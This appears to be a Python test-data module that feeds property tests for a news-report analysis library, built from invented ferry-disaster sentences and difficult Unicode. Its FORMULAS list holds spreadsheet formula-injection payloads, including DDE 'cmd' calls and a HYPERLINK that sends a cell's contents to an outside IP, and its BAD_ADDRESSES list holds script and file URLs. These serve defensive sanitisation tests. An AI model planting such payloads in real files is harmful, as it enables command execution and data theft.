"""What the property tests draw from: words, sentences, reports and things that are none."""

from __future__ import annotations

from dataclasses import replace
from functools import partial
from hashlib import sha256

from hypothesis import strategies as st

from headwater.dossier import Account, Dossier, Provenance
from headwater.model import (
    Attribution,
    Claim,
    Drift,
    Event,
    Group,
    Link,
    Origin,
    Place,
    Published,
    Report,
    Span,
    TimeExpression,
    Value,
    Voice,
    VoiceEntity,
)

# Every sentence is invented. They hold what makes texts hard: names, figures, quotations of all
# kinds, abbreviations, hedges, denials.
SENTENCES = (
    "The Sornay ferry sank off Cape Veld on Tuesday, killing at least nine people.",
    "Harbour master Ilse Quandt said the boat had left port in apparent haste.",
    '"We heard a bang and then nothing," said Ruben Astor, a fisherman from Nule.',
    "The owners' lawyer, Dr. Petra Lindqvist, denied that the hull was cracked.",
    "“Nobody checked the pumps,” she told the Quay Gazette. “Nobody ever did.”",
    "About 40 passengers, many of them students, were believed to be on board.",
    "The coastguard's two boats reached the wreck at 5.40 a.m., it said in a statement.",
    "Residents of Nule don't trust the inquiry, which opens on 3 March 2021.",
    "The minister called it 'a shameful delay' and promised $2.4m for new boats.",
    "It was not clear whether the captain, who may have survived, would be charged.",
    "According to the Veld Monitor, repairs were put off twice.",
    "Three men were arrested in the town of Ostrel; none has been named.",
)

# Characters that shift offsets or break parsers where code is careless: controls, bidi, zero width,
# combining marks, astral planes, unpaired marks. No lone surrogates: the reader replaces those, so
# no report holds any.
HARD_CHARACTERS = (
    "\x00\x0b\x1f\u00a0\u00ad\u200b\u200f\u202e\u2066\ufeff\u0301\u2028\U0001f6a2\U00020000"
    "\"'“”‘’«»„…—.,;:!?()[]<>&\t\r"
)


def sentences() -> st.SearchStrategy[str]:
    """One invented sentence."""
    return st.sampled_from(SENTENCES)


def paragraphs() -> st.SearchStrategy[str]:
    """One to three invented sentences on one line."""
    return st.lists(sentences(), min_size=1, max_size=3).map(" ".join)


def reports() -> st.SearchStrategy[str]:
    """A report of one to six different sentences, in paragraphs parted by blank lines."""
    breaks = st.lists(st.sampled_from((" ", "\n\n")), min_size=6, max_size=6)
    chosen = st.lists(sentences(), min_size=1, max_size=6, unique=True)
    return st.tuples(chosen, breaks).map(
        lambda drawn: "".join(s + b for s, b in zip(*drawn, strict=False)).strip()
    )


def noise() -> st.SearchStrategy[str]:
    """Up to 60 characters of any kind, most often those that break things."""
    hard = st.sampled_from(HARD_CHARACTERS)
    any_character = st.characters(codec="utf-8")
    return st.text(st.one_of(hard, any_character, st.sampled_from("ab 1\n")), max_size=60)


def spoiled_reports() -> st.SearchStrategy[str]:
    """A report with noise put in before, between and after its paragraphs."""
    return st.lists(st.one_of(paragraphs(), noise()), min_size=1, max_size=4).map("\n\n".join)


# Cells that a spreadsheet would run, in every disguise that we know of.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://203.0.113.5/?x="&A1,"see")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹣1",
    "−1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
    "a;=1+1",
    "a\n=1+1",
    "a\t@x",
    'a";=1+1',
    "=cmd|'/C calc'!'A1'",
)
# Addresses that nobody may be sent to.
BAD_ADDRESSES = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/hosts",
    "//news.example/a",
    "https://news.example/\u202egnp.exe",
    "https://user:word@news.example/",
    "https://news.example:99999/",
    'https://news.example/"><script>',
)


# What a field may hold beside plain words: nothing, marks of every notation, invisible characters.
HARD_WORDS = (
    "",
    " ",
    "\\",
    "a\\nb",
    'say "hi" <b>&amp;</b> \\',
    "two\nlines\u2028three\x85four",
    "\x00\x0b\x1f\x7f",
    "\u202eabc\u2066\ufeff\U000e0041",
    "\U0001f6a2\U00020000e\u0301",
    "'; \"\"];)}' %% '-",
    HARD_CHARACTERS,
)


def words() -> st.SearchStrategy[str]:
    """Free text of any kind: news, marks, formulas, nothing."""
    return st.sampled_from((*SENTENCES[:4], "the army", "protesters", *HARD_WORDS, *FORMULAS))


def _spans(report: Report) -> st.SearchStrategy[Span]:
    ends = st.tuples(*[st.integers(0, len(report.text))] * 2).map(sorted)
    return ends.map(lambda found: report.span(*found))


# Texts that records point into: drawing them anew for every dossier would take most of its time.
_TEXTS = (
    "\n\n".join(SENTENCES[:5]),
    "\r\n".join((SENTENCES[6], HARD_CHARACTERS, SENTENCES[3])),
    " ".join(FORMULAS),
    "",
)


@st.composite
def _written_reports(draw: st.DrawFn, number: int) -> Report:
    text = draw(st.sampled_from(_TEXTS))
    digest = sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
    url = st.sampled_from((None, "https://news.example/a?b=c", *BAD_ADDRESSES))
    published = st.sampled_from(
        (
            Published(),
            Published("2021-03-03", "2021-03-03", "metadata"),
            Published("2021-03-01", "2021-03-31", "text"),
            Published("2021-03-03T05:40:00Z", "2021-03-03T05:40:00Z", "metadata"),
        )
    )
    report = Report(
        id=f"r{number}",
        path=draw(words()) or "-",
        url=draw(url),
        sha256=digest,
        text_sha256=digest,
        text=text,
        title=None,
        outlet=draw(st.one_of(st.none(), words())),
        outlet_basis=None,
        author=draw(st.one_of(st.none(), words())),
        dateline=None,
        agency_tags=(),
        published=draw(published),
        language="en",
        furniture=(),
        blocks=(),
        encoding="utf-8",
        extraction="plain",
    )
    return replace(report, title=draw(st.one_of(st.none(), _spans(report))))


def _figures() -> st.SearchStrategy[tuple[float, float] | None]:
    ends = st.tuples(st.integers(0, 40), st.integers(0, 40)).map(sorted)
    return st.one_of(st.none(), ends.map(lambda found: (float(found[0]), float(found[1]))))


def _placed(id: str, span: Span) -> st.SearchStrategy[Place]:
    point = st.one_of(
        st.none(),
        st.tuples(st.floats(-90, 90), st.floats(-180, 180)),
        st.just((91.0, 5.0)),
    )
    return st.tuples(words(), point).flatmap(
        lambda drawn: st.builds(
            Place,
            id=st.just(id),
            span=st.just(span),
            name=st.just(drawn[0]),
            geonameid=st.just(7 if drawn[1] else None),
            lat=st.just(drawn[1][0] if drawn[1] else None),
            lon=st.just(drawn[1][1] if drawn[1] else None),
            kind=st.sampled_from(("city", "district", "province", "region", "country", "unknown")),
            country=st.sampled_from((None, "SY", "NO", "XK", "ZZ")),
            precision=st.integers(1, 3),
            confidence=st.just(0.5),
            candidates=st.just(2),
        )
    )


def _timed(id: str, span: Span) -> st.SearchStrategy[TimeExpression]:
    days = st.sampled_from(
        (
            (None, None, 3),
            ("2021-03-02", "2021-03-02", 1),
            ("2021-03-01", "2021-03-31", 3),
            ("2021-03-01", None, 2),
            ("no day", "2021-03-31", 3),
        )
    )
    return days.map(lambda found: TimeExpression(id, span, *found, "text"))


def _happened(number: int, claims: tuple[Claim, ...]) -> st.SearchStrategy[Event]:
    names = st.lists(words(), max_size=3).map(tuple)
    return st.builds(
        Event,
        id=st.just(f"e{number}"),
        claims=st.sampled_from([(c.id,) for c in claims] or [("c9",)]),
        type=st.sampled_from(("ASSAULT", "PROTEST", "COERCE", "CONSULT", "MOBILIZE")),
        mode=st.sampled_from((None, "aerial", "abduct", "arrest", "demo", "destroy")),
        context=st.sampled_from(((), ("military",), ("territory", "legal"))),
        modality=st.sampled_from(("asserted", "historical", "future", "hypothetical", "negated")),
        actors=names,
        recipients=names,
        place=st.sampled_from((None, "p1", "p2", "p9")),
        time=st.sampled_from((None, "t1", "t2", "t9")),
        dead=_figures(),
        injured=_figures(),
    )


@st.composite
def dossiers(draw: st.DrawFn) -> Dossier:
    """A dossier by hand, sound in its ids but for a few that name nothing; free texts are any."""
    written = tuple(draw(_written_reports(n)) for n in range(1, draw(st.integers(0, 3)) + 1))
    if not written:
        return Dossier(Account(0, 0, (), (), ()), Provenance("0" * 64, (), None, "rules", "rules"))
    spans = st.sampled_from(written).flatmap(_spans)
    voices = st.builds(
        Voice,
        name=words(),
        kind=st.sampled_from(("person", "group", "outlet", "document", "unnamed")),
        role=st.one_of(st.none(), words()),
        of=st.one_of(st.none(), words()),
        voice=st.sampled_from(("", "v1")),
    )
    attribution = Attribution(
        "a1", draw(spans), None, draw(spans), "person", True, False,
        tuple(draw(st.lists(voices, max_size=3))), "neutral", 0.9, (draw(words()),),
    )  # fmt: skip
    claims = tuple(
        Claim(
            f"c{n}", draw(spans), 0, draw(st.sampled_from(((), ("a1",)))), "stated", (), (),
            None, draw(st.sampled_from((None, "g1"))),
        )
        for n in range(1, draw(st.integers(0, 4)) + 1)
    )  # fmt: skip
    members = tuple(c.id for c in claims if c.group == "g1")
    parents = [r.id for r in written[:-1]] + ["o2"]
    return Dossier(
        Account(len(written), len(written), (), (), (draw(words()),)),
        Provenance("5e" * 32, (("read", "1"),), "en 1.0", "rules", "rules"),
        reports=written,
        attributions=(attribution,),
        voices=(VoiceEntity("v1", draw(words()), "person", (draw(words()),), ("r1",), ("a1",)),),
        claims=claims,
        links=(
            Link(written[-1].id, draw(st.sampled_from(parents)), "rewrite", True, 0.5, False, 0.9,
                 (draw(words()),)),
        ),
        origins=(
            Origin("o1", draw(words()), "r1", ("r1",)),
            Origin("o2", draw(words()), None, tuple(r.id for r in written)),
        ),
        groups=(
            Group("g1", draw(words()), members, ("r1",), ("o1",), 1, "single-origin",
                  (Value(draw(words()), members, ("o1",)),), 0.9, (draw(words()),)),
        ),
        drift=(
            Drift("d1", "number-changed", "high", draw(spans), draw(spans), draw(words()), 0.7),
        ),
        events=tuple(draw(_happened(n, claims)) for n in range(1, draw(st.integers(0, 4)) + 1)),
        places=tuple(draw(spans.flatmap(partial(_placed, f"p{n}"))) for n in (1, 2)),
        times=tuple(draw(spans.flatmap(partial(_timed, f"t{n}"))) for n in (1, 2)),
    )  # fmt: skip
